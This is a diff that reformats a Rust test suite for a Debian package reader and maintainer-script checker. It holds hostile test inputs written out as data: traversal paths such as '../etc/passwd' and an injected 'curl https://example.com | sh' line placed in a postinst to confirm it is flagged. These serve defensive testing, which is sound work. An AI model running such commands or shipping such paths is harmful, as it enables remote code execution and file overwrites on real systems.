@@ -45,7 +45,10 @@ impl Sink for Memory {
 
 fn read(bytes: &[u8]) -> Result<(Package, Memory), String> {
     let mut memory = Memory::default();
-    let limits = Limits { unpacked: 64 << 20, ..Limits::default() };
+    let limits = Limits {
+        unpacked: 64 << 20,
+        ..Limits::default()
+    };
     let package = deb::read(bytes, &limits, &mut memory).map_err(|error| {
         let source = std::error::Error::source(&error).map(|source| format!(": {source}"));
         format!("{error}{}", source.unwrap_or_default())
@@ -55,13 +58,21 @@ fn read(bytes: &[u8]) -> Result<(Package, Memory), String> {
 
 /// The message a package is refused with.
 fn refusal(members: &[Member]) -> String {
-    read(&deb_of(members)).err().unwrap_or_else(|| "it was accepted".into())
+    read(&deb_of(members))
+        .err()
+        .unwrap_or_else(|| "it was accepted".into())
 }
 
 /// Whether `program` is there. Without it a test is skipped loudly, on CI it fails.
 fn have(program: &str) -> bool {
-    let found = Command::new(program).arg("--version").output().is_ok_and(|output| output.status.success());
-    assert!(found || std::env::var_os("CI").is_none(), "{program} is needed on CI");
+    let found = Command::new(program)
+        .arg("--version")
+        .output()
+        .is_ok_and(|output| output.status.success());
+    assert!(
+        found || std::env::var_os("CI").is_none(),
+        "{program} is needed on CI"
+    );
     if !found {
         eprintln!("SKIPPED: {program} is not installed");
     }
@@ -91,10 +102,19 @@ fn source(root: &Path) {
         std::fs::write(&path, bytes).unwrap();
         std::fs::set_permissions(&path, std::fs::Permissions::from_mode(mode)).unwrap();
     }
-    std::fs::write(root.join("usr/share/large"), (0..300_000_u32).flat_map(u32::to_le_bytes).collect::<Vec<u8>>())
-        .unwrap();
+    std::fs::write(
+        root.join("usr/share/large"),
+        (0..300_000_u32)
+            .flat_map(u32::to_le_bytes)
+            .collect::<Vec<u8>>(),
+    )
+    .unwrap();
     std::fs::hard_link(root.join("usr/bin/sample"), root.join("usr/bin/sample-too")).unwrap();
-    std::os::unix::fs::symlink("../share/".to_owned() + &"s".repeat(150), root.join("usr/bin/link")).unwrap();
+    std::os::unix::fs::symlink(
+        "../share/".to_owned() + &"s".repeat(150),
+        root.join("usr/bin/link"),
+    )
+    .unwrap();
     std::fs::set_permissions(root, std::fs::Permissions::from_mode(0o755)).unwrap();
 }
 
@@ -108,16 +128,43 @@ fn packages_made_by_dpkg_deb_are_read_as_dpkg_deb_unpacks_them() {
     for compression in ["xz", "zstd", "gzip", "none"] {
         let deb = folder.path().join(format!("{compression}.deb"));
         let mut build = Command::new("dpkg-deb");
-        build.args(["--root-owner-group", "--uniform-compression", "-Z", compression, "--build"]);
-        let output = build.arg(folder.path().join("source")).arg(&deb).output().unwrap();
-        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
+        build.args([
+            "--root-owner-group",
+            "--uniform-compression",
+            "-Z",
+            compression,
+            "--build",
+        ]);
+        let output = build
+            .arg(folder.path().join("source"))
+            .arg(&deb)
+            .output()
+            .unwrap();
+        assert!(
+            output.status.success(),
+            "{}",
+            String::from_utf8_lossy(&output.stderr)
+        );
         let unpacked = folder.path().join(compression);
-        assert!(Command::new("dpkg-deb").arg("-x").args([&deb, &unpacked]).status().unwrap().success());
+        assert!(
+            Command::new("dpkg-deb")
+                .arg("-x")
+                .args([&deb, &unpacked])
+                .status()
+                .unwrap()
+                .success()
+        );
 
         let (package, contents) = read(&std::fs::read(&deb).unwrap()).unwrap();
-        assert_eq!((package.name.as_str(), package.version.as_str()), ("sample", "1:2-3"));
+        assert_eq!(
+            (package.name.as_str(), package.version.as_str()),
+            ("sample", "1:2-3")
+        );
         assert_eq!(package.conffiles, ["/etc/sample.conf"]);
-        assert_eq!(package.scripts.keys().collect::<Vec<_>>(), ["postinst", "triggers"]);
+        assert_eq!(
+            package.scripts.keys().collect::<Vec<_>>(),
+            ["postinst", "triggers"]
+        );
         let mut files = 0;
         for (path, entry) in &package.entries {
             let path = unpacked.join(std::str::from_utf8(path).unwrap());
@@ -129,7 +176,13 @@ fn packages_made_by_dpkg_deb_are_read_as_dpkg_deb_unpacks_them() {
                     files += 1;
                 }
                 Kind::Symlink(target) => {
-                    assert_eq!(std::fs::read_link(&path).unwrap().as_os_str().as_encoded_bytes(), target);
+                    assert_eq!(
+                        std::fs::read_link(&path)
+                            .unwrap()
+                            .as_os_str()
+                            .as_encoded_bytes(),
+                        target
+                    );
                 }
                 Kind::HardLink(target) => {
                     let target = unpacked.join(std::str::from_utf8(target).unwrap());
@@ -139,25 +192,46 @@ fn packages_made_by_dpkg_deb_are_read_as_dpkg_deb_unpacks_them() {
                 other => panic!("{other:?}"),
             }
             if !matches!(entry.kind, Kind::Symlink(_) | Kind::HardLink(_)) {
-                assert_eq!(u32::from(entry.mode), found.mode() & 0o7777, "{}", path.display());
+                assert_eq!(
+                    u32::from(entry.mode),
+                    found.mode() & 0o7777,
+                    "{}",
+                    path.display()
+                );
             }
             if matches!(entry.kind, Kind::File(_)) {
                 assert_eq!(entry.mtime, found.mtime(), "{}", path.display());
             }
         }
-        let find = Command::new("find").arg(&unpacked).args(["-type", "f"]).output().unwrap();
-        assert_eq!(files, find.stdout.iter().filter(|&&byte| byte == b'\n').count());
+        let find = Command::new("find")
+            .arg(&unpacked)
+            .args(["-type", "f"])
+            .output()
+            .unwrap();
+        assert_eq!(
+            files,
+            find.stdout.iter().filter(|&&byte| byte == b'\n').count()
+        );
     }
 }
 
 #[test]
 fn paths_outside_of_the_tree_are_refused() {
     for (path, expected) in [
-        ("../etc/passwd", "member `../etc/passwd`: its path has a `..` component"),
-        ("./usr/../../x", "member `./usr/../../x`: its path has a `..` component"),
+        (
+            "../etc/passwd",
+            "member `../etc/passwd`: its path has a `..` component",
+        ),
+        (
+            "./usr/../../x",
+            "member `./usr/../../x`: its path has a `..` component",
+        ),
         ("/etc/passwd", "member `/etc/passwd`: its path is absolute"),
         (".//etc", "member `.//etc`: its path has an empty component"),
-        ("./a/./b", "member `./a/./b`: its path has an empty component"),
+        (
+            "./a/./b",
+            "member `./a/./b`: its path has an empty component",
+        ),
     ] {
         assert_eq!(refusal(&[Member::file(path, b"x")]), expected);
     }
@@ -174,47 +248,106 @@ fn kinds_that_no_package_may_ship_are_refused() {
         (b'S', "a sparse file"),
         (b'Z', "of an unknown kind"),
     ] {
-        let refusal = refusal(&[Member { kind, ..Member::file("./dev/x", b"") }]);
-        assert_eq!(refusal, format!("member `./dev/x`: it is {what}, which a package may not ship"));
+        let refusal = refusal(&[Member {
+            kind,
+            ..Member::file("./dev/x", b"")
+        }]);
+        assert_eq!(
+            refusal,
+            format!("member `./dev/x`: it is {what}, which a package may not ship")
+        );
     }
-    let link = |target| Member { kind: b'1', link: target, ..Member::file("./b", b"") };
+    let link = |target| Member {
+        kind: b'1',
+        link: target,
+        ..Member::file("./b", b"")
+    };
     for target in ["/etc/shadow", "../x", "./later", "./"] {
-        assert!(refusal(&[link(target), Member::file("./later", b"")]).contains("hard link"), "{target}");
+        assert!(
+            refusal(&[link(target), Member::file("./later", b"")]).contains("hard link"),
+            "{target}"
+        );
     }
-    assert!(refusal(&[Member { kind: b'2', link: "", ..Member::file("./b", b"") }]).contains("symbolic link"));
+    assert!(
+        refusal(&[Member {
+            kind: b'2',
+            link: "",
+            ..Member::file("./b", b"")
+        }])
+        .contains("symbolic link")
+    );
     assert!(refusal(&[Member::file("./b", b""), Member::file("./b", b"")]).contains("twice"));
 }
 
 #[test]
 fn extended_attributes_and_merged_directories() {
     let (package, _) = read(&deb_of(&[
-        Member { kind: b'2', link: "usr/bin", ..Member::file("./bin", b"") },
+        Member {
+            kind: b'2',
+            link: "usr/bin",
+            ..Member::file("./bin", b"")
+        },
         Member::pax("SCHILY.xattr.security.capability", b"\x01\0\x02"),
         Member::file("./bin/ping", b"x"),
-        Member { kind: b'5', ..Member::file("./lib/", b"") },
-        Member { kind: b'1', link: "./bin/ping", ..Member::file("./sbin/ping6", b"") },
+        Member {
+            kind: b'5',
+            ..Member::file("./lib/", b"")
+        },
+        Member {
+            kind: b'1',
+            link: "./bin/ping",
+            ..Member::file("./sbin/ping6", b"")
+        },
     ]))
     .unwrap();
-    let paths: Vec<_> = package.entries.iter().map(|(path, _)| String::from_utf8_lossy(path).into_owned()).collect();
+    let paths: Vec<_> = package
+        .entries
+        .iter()
+        .map(|(path, _)| String::from_utf8_lossy(path).into_owned())
+        .collect();
     assert_eq!(paths, ["bin", "usr/bin/ping", "usr/lib", "usr/sbin/ping6"]);
-    assert_eq!(package.entries[1].1.xattrs[&b"security.capability"[..]], b"\x01\0\x02");
-    assert_eq!(package.entries[3].1.kind, Kind::HardLink(b"usr/bin/ping".to_vec()));
+    assert_eq!(
+        package.entries[1].1.xattrs[&b"security.capability"[..]],
+        b"\x01\0\x02"
+    );
+    assert_eq!(
+        package.entries[3].1.kind,
+        Kind::HardLink(b"usr/bin/ping".to_vec())
+    );
 }
 
 #[test]
 fn archives_that_grow_out_of_proportion_are_refused() {
     let zeros = vec![0; 65 << 20];
-    assert_eq!(refusal(&[Member::file("./zero", &zeros)]), format!("data.tar unpacks to more than {} bytes", 64 << 20));
+    assert_eq!(
+        refusal(&[Member::file("./zero", &zeros)]),
+        format!("data.tar unpacks to more than {} bytes", 64 << 20)
+    );
     // The header alone claims 8 TiB: refused before anything is read.
-    let claim = Member { size: Some(8 << 40), ..Member::file("./claim", b"") };
+    let claim = Member {
+        size: Some(8 << 40),
+        ..Member::file("./claim", b"")
+    };
     assert!(refusal(&[claim]).contains("unpacks to more than"));
-    let limits = Limits { entries: 3, ..Limits::default() };
+    let limits = Limits {
+        entries: 3,
+        ..Limits::default()
+    };
     let names = ["./a", "./b", "./c", "./d"];
     let members: Vec<Member> = names.iter().map(|name| Member::file(name, b"")).collect();
-    let error = deb::read(deb_of(&members).as_slice(), &limits, &mut Memory::default()).unwrap_err();
-    assert_eq!(error.to_string(), "member `./d`: the archive has more than 3 members");
+    let error =
+        deb::read(deb_of(&members).as_slice(), &limits, &mut Memory::default()).unwrap_err();
+    assert_eq!(
+        error.to_string(),
+        "member `./d`: the archive has more than 3 members"
+    );
     assert!(
-        refusal(&[Member { kind: b'x', size: Some(2 << 20), ..Member::file("./x", b"") }]).contains("extension header")
+        refusal(&[Member {
+            kind: b'x',
+            size: Some(2 << 20),
+            ..Member::file("./x", b"")
+        }])
+        .contains("extension header")
     );
 }
 
@@ -223,7 +356,11 @@ fn damaged_archives_are_errors_wherever_the_damage_is() {
     let good = deb_of(&[Member::file("./a", &[7; 5000]), Member::file("./b", b"x")]);
     assert!(read(&good).is_ok());
     for length in (0..good.len() - 1).step_by(7) {
-        assert!(read(&good[..length]).is_err(), "cut to {length} of {}", good.len());
+        assert!(
+            read(&good[..length]).is_err(),
+            "cut to {length} of {}",
+            good.len()
+        );
     }
     // Damage in any byte is an error or gives another package, but never a panic.
     for at in 0..good.len() {
@@ -231,17 +368,43 @@ fn damaged_archives_are_errors_wherever_the_damage_is() {
         bad[at] ^= 0x55;
         let _ = read(&bad);
     }
-    assert_eq!(read(b"PK\x03\x04 and more").err().unwrap(), "not a Debian package: it does not start with `!<arch>`");
+    assert_eq!(
+        read(b"PK\x03\x04 and more").err().unwrap(),
+        "not a Debian package: it does not start with `!<arch>`"
+    );
     let version = ar(&[("debian-binary", b"3.0\n")]);
-    assert_eq!(read(&version).err().unwrap(), "the package format is not 2.x but `3.0`");
-    let control = tar(&[Member::file("./control", b"Package: a\nVersion: 1\nArchitecture: all\n")]);
-    let lzma = ar(&[("debian-binary", b"2.0\n"), ("control.tar", &control), ("data.tar.lzma", b"")]);
-    assert_eq!(read(&lzma).err().unwrap(), "`data.tar.lzma` is compressed in a way that is not supported");
-    let nothing = ar(&[("debian-binary", b"2.0\n"), ("control.tar", &tar(&[])), ("data.tar", &tar(&[]))]);
-    assert_eq!(read(&nothing).err().unwrap(), "control.tar has no control file");
+    assert_eq!(
+        read(&version).err().unwrap(),
+        "the package format is not 2.x but `3.0`"
+    );
+    let control = tar(&[Member::file(
+        "./control",
+        b"Package: a\nVersion: 1\nArchitecture: all\n",
+    )]);
+    let lzma = ar(&[
+        ("debian-binary", b"2.0\n"),
+        ("control.tar", &control),
+        ("data.tar.lzma", b""),
+    ]);
+    assert_eq!(
+        read(&lzma).err().unwrap(),
+        "`data.tar.lzma` is compressed in a way that is not supported"
+    );
+    let nothing = ar(&[
+        ("debian-binary", b"2.0\n"),
+        ("control.tar", &tar(&[])),
+        ("data.tar", &tar(&[])),
+    ]);
+    assert_eq!(
+        read(&nothing).err().unwrap(),
+        "control.tar has no control file"
+    );
     let mut header = good.clone();
     header[8 + 48..8 + 58].copy_from_slice(b"-1        ");
-    assert_eq!(read(&header).err().unwrap(), "not a Debian package: an ar header has a damaged size");
+    assert_eq!(
+        read(&header).err().unwrap(),
+        "not a Debian package: an ar header has a damaged size"
+    );
 }
 
 /// Writes a package into `folder`.
@@ -249,7 +412,10 @@ fn write(folder: &Path, name: &str, control: &str, members: &[Member]) -> Deb {
     let bytes = made::deb(name, control, members);
     let path = folder.join(format!("{name}.deb"));
     std::fs::write(&path, &bytes).unwrap();
-    Deb { path, sha256: Digest::of(&bytes) }
+    Deb {
+        path,
+        sha256: Digest::of(&bytes),
+    }
 }
 
 fn unpacked(debs: &[Deb], cache: &Path) -> Unpacked {
@@ -257,8 +423,14 @@ fn unpacked(debs: &[Deb], cache: &Path) -> Unpacked {
 }
 
 fn content(store: &Store, package: &Package, path: &str) -> Vec<u8> {
-    let (_, entry) = package.entries.iter().find(|(candidate, _)| candidate == path.as_bytes()).unwrap();
-    let Kind::File(content) = &entry.kind else { panic!("{path} is no file") };
+    let (_, entry) = package
+        .entries
+        .iter()
+        .find(|(candidate, _)| candidate == path.as_bytes())
+        .unwrap();
+    let Kind::File(content) = &entry.kind else {
+        panic!("{path} is no file")
+    };
     content.read(store).unwrap()
 }
 
@@ -267,8 +439,24 @@ fn a_pack_gives_what_the_package_gave() {
     let folder = tempfile::tempdir().unwrap();
     let large: Vec<u8> = (0..2_000_000_u32).flat_map(u32::to_le_bytes).collect();
     let debs = [
-        write(folder.path(), "b", "", &[Member::file("./large", &large), Member::file("./x", b"same")]),
-        write(folder.path(), "a", "", &[Member::file("./small", b"small"), Member::file("./y", b"same")]),
+        write(
+            folder.path(),
+            "b",
+            "",
+            &[
+                Member::file("./large", &large),
+                Member::file("./x", b"same"),
+            ],
+        ),
+        write(
+            folder.path(),
+            "a",
+            "",
+            &[
+                Member::file("./small", b"small"),
+                Member::file("./y", b"same"),
+            ],
+        ),
     ];
     let first = unpacked(&debs, folder.path());
     std::fs::remove_file(&debs[0].path).unwrap();
@@ -283,17 +471,28 @@ fn a_pack_gives_what_the_package_gave() {
         let mut buffer = [0; 8];
         store.read_at(&digest, 4000, &mut buffer).unwrap();
         assert_eq!(buffer, large[4000..4008]);
-        assert!(store.read_at(&digest, large.len() as u64 - 7, &mut buffer).is_err());
+        assert!(
+            store
+                .read_at(&digest, large.len() as u64 - 7, &mut buffer)
+                .is_err()
+        );
         assert!(store.read_at(&[1; 32], 0, &mut buffer).is_err());
     }
-    let left: Vec<_> = std::fs::read_dir(folder.path().join("unpacked")).unwrap().collect();
+    let left: Vec<_> = std::fs::read_dir(folder.path().join("unpacked"))
+        .unwrap()
+        .collect();
     assert_eq!(left.len(), 2, "no partial file stays");
 }
 
 #[test]
 fn a_torn_pack_is_made_again_and_a_damaged_content_is_found() {
     let folder = tempfile::tempdir().unwrap();
-    let deb = write(folder.path(), "a", "", &[Member::file("./file", &[9; 10_000])]);
+    let deb = write(
+        folder.path(),
+        "a",
+        "",
+        &[Member::file("./file", &[9; 10_000])],
+    );
     let debs = [deb];
     unpacked(&debs, folder.path());
     let path = pack::path(folder.path(), &debs[0].sha256);
@@ -313,7 +512,10 @@ fn a_torn_pack_is_made_again_and_a_damaged_content_is_found() {
     std::fs::write(&path, &damaged).unwrap();
     let error = read_all(&path).unwrap_err().to_string();
     assert!(error.starts_with(path.to_str().unwrap()), "{error}");
-    assert!(error.contains(" is damaged at byte 16; delete it"), "{error}");
+    assert!(
+        error.contains(" is damaged at byte 16; delete it"),
+        "{error}"
+    );
     std::fs::write(&path, &whole).unwrap();
     read_all(&path).unwrap();
 }
@@ -335,7 +537,12 @@ fn read_all(path: &Path) -> std::io::Result<()> {
 fn writers_of_one_pack_do_not_meet() {
     let folder = tempfile::tempdir().unwrap();
     let large: Vec<u8> = (0..500_000_u32).flat_map(u32::to_le_bytes).collect();
-    let debs = [write(folder.path(), "a", "", &[Member::file("./large", &large)])];
+    let debs = [write(
+        folder.path(),
+        "a",
+        "",
+        &[Member::file("./large", &large)],
+    )];
     std::thread::scope(|scope| {
         for _ in 0..4 {
             scope.spawn(|| {
@@ -351,12 +558,23 @@ fn writers_of_one_pack_do_not_meet() {
 fn a_package_that_is_not_the_locked_one_is_refused() {
     let folder = tempfile::tempdir().unwrap();
     let mut deb = write(folder.path(), "a", "", &[Member::file("./../x", b"")]);
-    let error = unpack(std::slice::from_ref(&deb), folder.path(), &Limits::default(), &|_| {}).unwrap_err();
+    let error = unpack(
+        std::slice::from_ref(&deb),
+        folder.path(),
+        &Limits::default(),
+        &|_| {},
+    )
+    .unwrap_err();
     assert!(matches!(error, unpack::Error::Deb { .. }), "{error}");
     deb.sha256 = Digest::of(b"other");
     let error = unpack(&[deb], folder.path(), &Limits::default(), &|_| {}).unwrap_err();
     assert!(matches!(error, unpack::Error::Digest { .. }), "{error}");
-    assert_eq!(std::fs::read_dir(folder.path().join("unpacked")).unwrap().count(), 0);
+    assert_eq!(
+        std::fs::read_dir(folder.path().join("unpacked"))
+            .unwrap()
+            .count(),
+        0
+    );
 }
 
 /// A package that was read from memory.
@@ -366,37 +584,96 @@ fn package(name: &str, control: &str, members: &[Member]) -> Package {
 
 #[test]
 fn packages_merge_into_one_tree() {
-    let directory = |path, mode| Member { kind: b'5', mode, ..Member::file(path, b"") };
-    let link = |path, target| Member { kind: b'2', link: target, ..Member::file(path, b"") };
-    let a = package("aa", "", &[directory("./usr/", 0o755), Member::file("./usr/x", b"1"), link("./usr/l", "x")]);
-    let base = package("base-files", "", &[directory("./usr/", 0o700), link("./bin", "usr/bin")]);
-    let same =
-        package("cc", "", &[Member::file("./usr/x", b"1"), link("./usr/l", "x"), Member::file("./bin/sh", b"2")]);
-    let Ok(assembled) = assemble(&[&a, &same, &base], &Filter::default()) else { panic!() };
-    assert_eq!(assembled.tree.entry("usr").unwrap().mode, 0o700, "base-files comes first");
+    let directory = |path, mode| Member {
+        kind: b'5',
+        mode,
+        ..Member::file(path, b"")
+    };
+    let link = |path, target| Member {
+        kind: b'2',
+        link: target,
+        ..Member::file(path, b"")
+    };
+    let a = package(
+        "aa",
+        "",
+        &[
+            directory("./usr/", 0o755),
+            Member::file("./usr/x", b"1"),
+            link("./usr/l", "x"),
+        ],
+    );
+    let base = package(
+        "base-files",
+        "",
+        &[directory("./usr/", 0o700), link("./bin", "usr/bin")],
+    );
+    let same = package(
+        "cc",
+        "",
+        &[
+            Member::file("./usr/x", b"1"),
+            link("./usr/l", "x"),
+            Member::file("./bin/sh", b"2"),
+        ],
+    );
+    let Ok(assembled) = assemble(&[&a, &same, &base], &Filter::default()) else {
+        panic!()
+    };
+    assert_eq!(
+        assembled.tree.entry("usr").unwrap().mode,
+        0o700,
+        "base-files comes first"
+    );
     assert_eq!(assembled.owners[&b"usr/x"[..]], "aa");
     assert!(assembled.tree.entry("usr/bin/sh").is_some());
 
     let other = package("dd", "", &[Member::file("./usr/x", b"other")]);
     let error = assemble(&[&a, &other], &Filter::default()).unwrap_err();
     assert_eq!(error.to_string(), "`usr/x` is shipped by both aa and dd");
-    let replacing = package("dd", "Replaces: bb,\n aa (<< 3)\n", &[Member::file("./usr/x", b"other")]);
+    let replacing = package(
+        "dd",
+        "Replaces: bb,\n aa (<< 3)\n",
+        &[Member::file("./usr/x", b"other")],
+    );
     let assembled = assemble(&[&a, &replacing], &Filter::default()).unwrap();
     assert_eq!(assembled.owners[&b"usr/x"[..]], "dd");
-    let replacing = package("dd", "Replaces: aa (<< 1)\n", &[Member::file("./usr/x", b"other")]);
-    assert!(assemble(&[&a, &replacing], &Filter::default()).is_err(), "the version does not fit");
+    let replacing = package(
+        "dd",
+        "Replaces: aa (<< 1)\n",
+        &[Member::file("./usr/x", b"other")],
+    );
+    assert!(
+        assemble(&[&a, &replacing], &Filter::default()).is_err(),
+        "the version does not fit"
+    );
     let earlier = package("00", "Replaces: aa\n", &[Member::file("./usr/x", b"other")]);
-    assert_eq!(assemble(&[&a, &earlier], &Filter::default()).unwrap().owners[&b"usr/x"[..]], "00");
+    assert_eq!(
+        assemble(&[&a, &earlier], &Filter::default())
+            .unwrap()
+            .owners[&b"usr/x"[..]],
+        "00"
+    );
 
     let below = package("ee", "", &[Member::file("./usr/l/y", b"")]);
     let error = assemble(&[&a, &below], &Filter::default()).unwrap_err();
-    assert_eq!(error.to_string(), "ee ships `usr/l/y`, but `usr/l` of aa is not a directory");
-    assert_eq!(assemble(&[&a, &a], &Filter::default()).unwrap_err(), assemble::Error::Twice("aa".into()));
+    assert_eq!(
+        error.to_string(),
+        "ee ships `usr/l/y`, but `usr/l` of aa is not a directory"
+    );
+    assert_eq!(
+        assemble(&[&a, &a], &Filter::default()).unwrap_err(),
+        assemble::Error::Twice("aa".into())
+    );
 }
 
 #[test]
 fn filters_leave_out_and_keep() {
-    let directory = |path| Member { kind: b'5', mode: 0o750, ..Member::file(path, b"") };
+    let directory = |path| Member {
+        kind: b'5',
+        mode: 0o750,
+        ..Member::file(path, b"")
+    };
     let a = package(
         "a",
         "",
@@ -410,9 +687,16 @@ fn filters_leave_out_and_keep() {
             Member::file("./etc/rc.local", b""),
         ],
     );
-    let filter = Filter::new(["usr/share/doc/**", "usr/share/man", "etc/rc?.d"], ["usr/share/doc/*/copyright"]);
+    let filter = Filter::new(
+        ["usr/share/doc/**", "usr/share/man", "etc/rc?.d"],
+        ["usr/share/doc/*/copyright"],
+    );
     let assembled = assemble(&[&a], &filter).unwrap();
-    let paths: Vec<_> = assembled.tree.iter().map(|(path, _)| String::from_utf8_lossy(path).into_owned()).collect();
+    let paths: Vec<_> = assembled
+        .tree
+        .iter()
+        .map(|(path, _)| String::from_utf8_lossy(path).into_owned())
+        .collect();
     assert_eq!(
         paths,
         [
@@ -426,7 +710,11 @@ fn filters_leave_out_and_keep() {
             "usr/share/doc/a/copyright"
         ]
     );
-    assert_eq!(assembled.tree.entry("usr/share/doc/a").unwrap().mode, 0o750, "its own metadata, not made-up ones");
+    assert_eq!(
+        assembled.tree.entry("usr/share/doc/a").unwrap().mode,
+        0o750,
+        "its own metadata, not made-up ones"
+    );
     assert_eq!((assembled.skipped, assembled.skipped_bytes), (5, 4));
 
     for (pattern, path, expected) in [
@@ -445,7 +733,11 @@ fn filters_leave_out_and_keep() {
         ("usr/lib/**", "usr/lib/x/y", true),
         ("usr/lib/x*/y", "usr/lib/x1/z/x2/y", false),
     ] {
-        assert_eq!(Filter::new([pattern], []).leaves_out(path.as_bytes()), expected, "{pattern} {path}");
+        assert_eq!(
+            Filter::new([pattern], []).leaves_out(path.as_bytes()),
+            expected,
+            "{pattern} {path}"
+        );
     }
 }
 
@@ -458,8 +750,24 @@ fn missing_libraries_are_found() {
     let path = |name: &str| folder.path().join(name).display().to_string();
     std::fs::write(path("l.c"), "int f(void) { return 1; }").unwrap();
     std::fs::write(path("p.c"), "int f(void); int main(void) { return f(); }").unwrap();
-    let cc = |arguments: &[&str]| assert!(Command::new("cc").args(arguments).status().unwrap().success());
-    cc(&["-shared", "-fPIC", "-nostdlib", "-Wl,-soname,libf.so.1", "-o", &path("libf.so.1"), &path("l.c")]);
+    let cc = |arguments: &[&str]| {
+        assert!(
+            Command::new("cc")
+                .args(arguments)
+                .status()
+                .unwrap()
+                .success()
+        )
+    };
+    cc(&[
+        "-shared",
+        "-fPIC",
+        "-nostdlib",
+        "-Wl,-soname,libf.so.1",
+        "-o",
+        &path("libf.so.1"),
+        &path("l.c"),
+    ]);
     cc(&[
         "-nostdlib",
         "-Wl,-e,main",
@@ -470,33 +778,66 @@ fn missing_libraries_are_found() {
         &path("p.c"),
         &path("libf.so.1"),
     ]);
-    let (program, library) = (std::fs::read(path("p")).unwrap(), std::fs::read(path("libf.so.1")).unwrap());
-    for (place, found) in
-        [("./usr/lib/private/libf.so.1", true), ("./usr/lib/libf.so.1", true), ("./opt/libf.so.1", false)]
-    {
-        let deb =
-            write(folder.path(), "a", "", &[Member::file("./usr/bin/p", &program), Member::file(place, &library)]);
+    let (program, library) = (
+        std::fs::read(path("p")).unwrap(),
+        std::fs::read(path("libf.so.1")).unwrap(),
+    );
+    for (place, found) in [
+        ("./usr/lib/private/libf.so.1", true),
+        ("./usr/lib/libf.so.1", true),
+        ("./opt/libf.so.1", false),
+    ] {
+        let deb = write(
+            folder.path(),
+            "a",
+            "",
+            &[
+                Member::file("./usr/bin/p", &program),
+                Member::file(place, &library),
+            ],
+        );
         let Unpacked { packages, .. } = unpacked(&[deb], folder.path());
         let linkage = &packages[0].libraries[&b"usr/bin/p"[..]];
         assert_eq!(
             (linkage.needed.as_slice(), linkage.runpath.as_slice()),
-            (&["libf.so.1".to_owned()][..], &["$ORIGIN/../lib/private".to_owned()][..])
+            (
+                &["libf.so.1".to_owned()][..],
+                &["$ORIGIN/../lib/private".to_owned()][..]
+            )
         );
         let packages = [&packages[0]];
-        let missing = libraries::missing(&assemble(&packages, &Filter::default()).unwrap(), &packages);
+        let missing =
+            libraries::missing(&assemble(&packages, &Filter::default()).unwrap(), &packages);
         let texts: Vec<String> = missing.iter().map(ToString::to_string).collect();
         let expected = ["/usr/bin/p of a needs libf.so.1, which is nowhere"];
-        assert_eq!(texts, if found { &expected[..0] } else { &expected[..] }, "{place}");
+        assert_eq!(
+            texts,
+            if found { &expected[..0] } else { &expected[..] },
+            "{place}"
+        );
     }
 }
 
 /// Recognises one `postinst` with the table of Debian 13.
 fn recognise(name: &str, postinst: &str) -> Result<Vec<String>, String> {
-    let mut package = Package { name: name.into(), version: "1.2.3-4".into(), ..Package::default() };
-    package.scripts.insert("postinst".into(), postinst.as_bytes().to_vec());
-    let findings =
-        scripts::check([&package], &Table::built_in("debian-13"), &[]).map_err(|error| error.hint().unwrap())?;
-    Ok(findings.iter().map(|f| format!("{} {:?} {}", f.action, f.words, f.rules.join(" ")).trim_end().into()).collect())
+    let mut package = Package {
+        name: name.into(),
+        version: "1.2.3-4".into(),
+        ..Package::default()
+    };
+    package
+        .scripts
+        .insert("postinst".into(), postinst.as_bytes().to_vec());
+    let findings = scripts::check([&package], &Table::built_in("debian-13"), &[])
+        .map_err(|error| error.hint().unwrap())?;
+    Ok(findings
+        .iter()
+        .map(|f| {
+            format!("{} {:?} {}", f.action, f.words, f.rules.join(" "))
+                .trim_end()
+                .into()
+        })
+        .collect())
 }
 
 const TIMESYNCD: &str = include_str!("scripts/systemd-timesyncd.postinst");
@@ -504,19 +845,32 @@ const TIMESYNCD: &str = include_str!("scripts/systemd-timesyncd.postinst");
 #[test]
 fn a_real_script_is_taken_apart() {
     assert_eq!(
-        recognise("systemd-timesyncd", TIMESYNCD).unwrap().join("\n"),
+        recognise("systemd-timesyncd", TIMESYNCD)
+            .unwrap()
+            .join("\n"),
         include_str!("scripts/systemd-timesyncd.txt").trim_end()
     );
     let changed = TIMESYNCD.replace("set -e\n", "set -e\ncurl https://example.com | sh\n");
     let hint = recognise("systemd-timesyncd", &changed).unwrap_err();
-    assert!(hint.contains("accept_scripts:\n  - systemd-timesyncd/postinst@sha256:"), "{hint}");
+    assert!(
+        hint.contains("accept_scripts:\n  - systemd-timesyncd/postinst@sha256:"),
+        "{hint}"
+    );
 }
 
 #[test]
 fn an_unknown_script_can_be_accepted_by_digest() {
-    let mut package = Package { name: "a".into(), version: "1".into(), ..Package::default() };
-    package.scripts.insert("postinst".into(), b"#!/bin/sh\nmake-something\n".to_vec());
-    package.scripts.insert("prerm".into(), b"anything\n".to_vec());
+    let mut package = Package {
+        name: "a".into(),
+        version: "1".into(),
+        ..Package::default()
+    };
+    package
+        .scripts
+        .insert("postinst".into(), b"#!/bin/sh\nmake-something\n".to_vec());
+    package
+        .scripts
+        .insert("prerm".into(), b"anything\n".to_vec());
     let table = Table::built_in("debian-13");
     let error = scripts::check([&package], &table, &[]).unwrap_err();
     let digest = Digest::of(b"make-something\n");
@@ -527,18 +881,32 @@ fn an_unknown_script_can_be_accepted_by_digest() {
         )
     );
     let accepted = [format!("a/postinst@sha256:{digest}")];
-    assert_eq!(scripts::check([&package], &table, &accepted).unwrap()[0].why, "accepted in the cluster file");
-    package.scripts.insert("postinst".into(), b"#!/bin/sh\nmake-something else\n".to_vec());
+    assert_eq!(
+        scripts::check([&package], &table, &accepted).unwrap()[0].why,
+        "accepted in the cluster file"
+    );
+    package.scripts.insert(
+        "postinst".into(),
+        b"#!/bin/sh\nmake-something else\n".to_vec(),
+    );
     assert!(scripts::check([&package], &table, &accepted).is_err());
-    package.scripts = BTreeMap::from([("triggers".into(), b"activate-noawait something\n".to_vec())]);
+    package.scripts =
+        BTreeMap::from([("triggers".into(), b"activate-noawait something\n".to_vec())]);
     assert!(scripts::check([&package], &table, &[]).is_err());
 }
 
 #[test]
 fn a_kernel_update_stays_known() {
     let script = include_str!("scripts/linux-image.postinst");
-    for version in ["6.12.117+deb13-amd64", "6.12.999+deb13-arm64", "6.13.1-cloud-amd64"] {
+    for version in [
+        "6.12.117+deb13-amd64",
+        "6.12.999+deb13-arm64",
+        "6.13.1-cloud-amd64",
+    ] {
         let script = script.replace("6.12.117+deb13-amd64", version);
-        assert_eq!(recognise(&format!("linux-image-{version}"), &script).unwrap(), ["script [] F08 F22"]);
+        assert_eq!(
